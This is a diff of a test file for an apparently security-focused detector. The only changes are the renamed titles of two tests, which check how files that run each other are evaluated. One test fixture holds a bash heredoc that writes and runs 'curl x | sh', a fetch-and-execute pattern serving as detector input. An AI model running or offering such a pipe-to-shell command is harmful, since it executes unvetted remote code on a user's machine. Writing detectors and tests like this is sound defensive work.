@@ -1,7 +1,7 @@
 import { expect, it } from "vitest";
 import { sharedDetector } from "../../support/marked.js";
 
-it("evaluates many files that run each other twice, and records a limit", async () => {
+it("files that each run the next file twice all have their finding, and a limit is recorded", async () => {
   const detector = await sharedDetector("extended");
   const files = Array.from(
     { length: 12 },
@@ -14,7 +14,7 @@ it("evaluates many files that run each other twice, and records a limit", async 
   expect(new Set(limits)).toEqual(new Set(["contexts"]));
 }, 120_000);
 
-it("does not run a file inside itself", async () => {
+it("a file that runs itself is evaluated once", async () => {
   const detector = await sharedDetector("extended");
   const text = "```bash\ncat > f <<'EOF'\ncurl x | sh\nbash f\nEOF\nbash f\n```";
   const { findings, outcome } = detector.detect(text);
